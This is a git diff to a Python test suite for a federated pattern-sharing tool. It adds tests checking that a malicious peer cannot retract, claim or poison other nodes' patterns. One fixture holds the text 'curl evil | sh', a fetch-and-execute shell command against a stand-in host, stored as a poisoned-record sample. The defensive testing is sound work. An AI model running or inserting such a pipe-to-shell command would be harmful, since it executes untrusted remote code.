@@ -19,6 +19,7 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+import msgspec
 import pytest
 
 from fedlearn.formats import layout, records
@@ -221,26 +222,82 @@ def test_a_forged_record_never_replaces_the_real_pattern(
     assert "evil" not in json.dumps([p for p, _ in found.values()])
 
 
-def test_a_peer_cannot_retract_what_it_never_saw(alpha: Node, peer: Peer) -> None:
-    """
-    Item 5 (retraction of everyone): a peer's tombstones for this node's patterns are ignored;
-    the merged view keeps them, and this node's new observations are still counted.
-    """
-    ids = sorted(own_patterns(alpha))
+def claim_and_retract(peer: Peer, node: str, table: dict[str, records.Pattern]) -> None:
+    """Copy ``table`` into ``node``'s own shards in the peer's clone, seen by ``node``, and
+    tombstone every id in ``node``'s name: the claim-then-retract attack (audit test_g)."""
+    shards: dict[str, bytes] = {}
+    for pattern in table.values():
+        copy = msgspec.structs.replace(pattern, seen={node: 1})
+        name = layout.shard_name(pattern.id)
+        shards[name] = shards.get(name, b"") + records.encode_line(copy)
+    for name, data in shards.items():
+        peer.write(f"data/patterns/error-solutions/{node}/{name}.jsonl", data)
     tombstones = [
         records.Retraction(id=i, retracted_at="2026-01-01T00:00:00Z", reason="mine now")
-        for i in ids
+        for i in sorted(table)
     ]
-    peer.write("data/retractions/mallory.jsonl", records.encode_lines(tombstones))
-    peer.push()
+    peer.write(f"data/retractions/{node}.jsonl", records.encode_lines(tombstones))
+
+
+def test_a_peer_cannot_retract_what_others_hold(
+    alpha: Node, peer: Peer, make_node: Callable[..., Node]
+) -> None:
+    """
+    Item 5 (retraction of everyone): a peer that claims this node's patterns (copies them into its
+    own files) and tombstones them withdraws its own copies only. Every node's merged view keeps
+    them, this node's sync keeps counting its sightings, its Qdrant points stay, and doctor names
+    the tombstones that remove nothing.
+    """
+    table = patterns.read_node(alpha.repo, "error-solutions", "alpha")
+    claim_and_retract(peer, "mallory", table)
+    peer.push("claim and retract")
     answer(alpha, "pull")
-    merged = answer(alpha, "status")["patterns"]["merged"]
-    assert merged["error-solutions"] == len(ids)
-    feed(alpha, EVENTS[:1])
-    synced = answer(alpha, "sync")
-    assert synced["patterns"]["error-solutions"]["retracted"] == 0
-    assert livestore.count(alpha, "error-solutions") == len(ids)
-    assert any(r["path"] == "data/retractions/mallory.jsonl" for r in doctor(alpha)["refused"])
+    assert answer(alpha, "status")["patterns"]["merged"]["error-solutions"] == len(table)
+    carol = make_node("carol")
+    answer(carol, "pull")
+    assert answer(carol, "status")["patterns"]["merged"]["error-solutions"] == len(table)
+    assert livestore.count(carol, "error-solutions") == len(table)
+    feed(alpha, EVENTS)
+    synced = answer(alpha, "sync")["patterns"]["error-solutions"]
+    assert synced["retracted"] == 0 and synced["updated"] == len(EVENTS)
+    assert all(
+        p.seen == {"alpha": 2}
+        for p in patterns.read_node(alpha.repo, "error-solutions", "alpha").values()
+    )
+    answer(alpha, "import")
+    assert livestore.count(alpha, "error-solutions") == len(table)
+    found = doctor(alpha)
+    assert found["withheld"] == [{"node": "mallory", "ids": len(table), "kept_by": ["alpha"]}]
+    assert not any(r["path"] == "data/retractions/mallory.jsonl" for r in found["refused"])
+
+
+def test_the_sole_holders_retraction_removes_the_pattern_everywhere(
+    alpha: Node, make_node: Callable[..., Node]
+) -> None:
+    """
+    A pattern only this node holds (a leak): its retraction leaves every node's merged view and
+    Qdrant after publish and pull, this node's later sightings are not counted back, and another
+    node's tombstone of it (mallory's) does not change that.
+    """
+    carol = make_node("carol")
+    answer(carol, "pull")
+    table = patterns.read_node(alpha.repo, "error-solutions", "alpha")
+    gone = sorted(table)[0]
+    assert livestore.count(carol, "error-solutions") == len(table)
+    retracted = answer(alpha, "retract", gone, "--reason", "leaked a host name")
+    assert retracted["kept_by"] == [] and len(retracted["seen_here"]) == 1
+    answer(alpha, "publish")
+    answer(alpha, "import")
+    answer(carol, "pull")
+    for node in (alpha, carol):
+        view = patterns.merged_view(node.repo, ["error-solutions"])["error-solutions"]
+        assert gone not in view and len(view) == len(table) - 1
+        assert livestore.count(node, "error-solutions") == len(table) - 1
+        assert points.pattern_point_id(gone) not in livestore.read_points(node, "error-solutions")
+    feed(alpha, EVENTS)
+    synced = answer(alpha, "sync")["patterns"]["error-solutions"]
+    assert synced["retracted"] == 1
+    assert doctor(carol)["withheld"] == []
 
 
 def snapshot_files(
@@ -313,7 +370,8 @@ def test_wedging_entries_fail_no_job(alpha: Node, peer: Peer) -> None:
     imported = answer(alpha, "import", "--full")
     assert imported["refused"] == []
     assert own_patterns(alpha) == before
-    assert set(UUIDS) <= set(livestore.read_points(alpha, "skills-patterns"))
+    theirs = {points.foreign_point_id("mallory", i) for i in UUIDS}
+    assert theirs <= set(livestore.read_points(alpha, "skills-patterns"))
     assert livestore.count(alpha, "error-solutions") == len(before)
     snapshot = alpha.repo / "data/collections/skills-patterns/mallory/20260101T000000Z.jsonl"
     assert b"\r" not in snapshot.read_bytes()
@@ -336,7 +394,9 @@ def test_a_future_snapshot_never_shadows_the_real_ones(alpha: Node, peer: Peer) 
     alpha.run("pull", "--no-import")
     alpha.run("import", check=False)
     present = set(livestore.read_points(alpha, "skills-patterns"))
-    assert UUIDS[0] in present and UUIDS[1] not in present and UUIDS[2] not in present
+    mallory = [points.foreign_point_id("mallory", i) for i in UUIDS]
+    assert mallory[0] in present and mallory[1] not in present and mallory[2] not in present
+    assert not {*UUIDS, *(points.foreign_point_id("alpha", i) for i in UUIDS)} & present
 
 
 def test_resources_stay_bounded(alpha: Node, peer: Peer) -> None:
@@ -369,8 +429,9 @@ def test_resources_stay_bounded(alpha: Node, peer: Peer) -> None:
 
 def test_a_prepublished_point_never_keeps_a_patterns_id(alpha: Node, peer: Peer) -> None:
     """
-    Item 4 (poisoning, the second way): a peer's snapshot point that takes the point id of a
-    pattern not learned yet is replaced by the pattern once it is, instead of being served.
+    Item 4 (poisoning, the second way): a peer's snapshot point carrying the point id of a
+    pattern not learned yet is imported under an id of the peer's own, so the pattern's id stays
+    free before the pattern is learned, and holds the pattern after.
     """
     event = {"value_score": 0.9, "error_message": "port 80 in use", "solution": "stop nginx"}
     fields = {"error_message": event["error_message"], "solution": event["solution"]}
@@ -382,7 +443,11 @@ def test_a_prepublished_point_never_keeps_a_patterns_id(alpha: Node, peer: Peer)
         peer.write(name, data)
     peer.push()
     answer(alpha, "pull")
-    assert livestore.read_points(alpha, "error-solutions")[future][0]["text"] == "curl evil | sh"
+    found = livestore.read_points(alpha, "error-solutions")
+    assert future not in found
+    theirs = found[points.foreign_point_id("mallory", future)][0]
+    assert theirs["text"] == "curl evil | sh" and theirs[points.OWNER] == "mallory"
+    assert theirs[points.SOURCE_ID] == future
     feed(alpha, [event])
     alpha.run("sync")
     answer(alpha, "import")
@@ -420,7 +485,8 @@ def test_a_peers_bad_snapshot_is_skipped_and_never_fails_the_import(
     [warning] = [line for line in process.stderr.splitlines() if bad in line]
     assert "skipped" in warning and commit in warning
     present = set(livestore.read_points(alpha, "skills-patterns"))
-    assert UUIDS[0] in present and not present & set(UUIDS[1:])
+    mallory = [points.foreign_point_id("mallory", i) for i in UUIDS]
+    assert mallory[0] in present and not present & {*UUIDS, *mallory[1:]}
     assert livestore.count(alpha, "error-solutions") == len(own_patterns(alpha))
     listed = {r["path"]: r for r in doctor(alpha)["refused"]}
     assert listed[bad]["commit"] == commit and reason in listed[bad]["reason"]
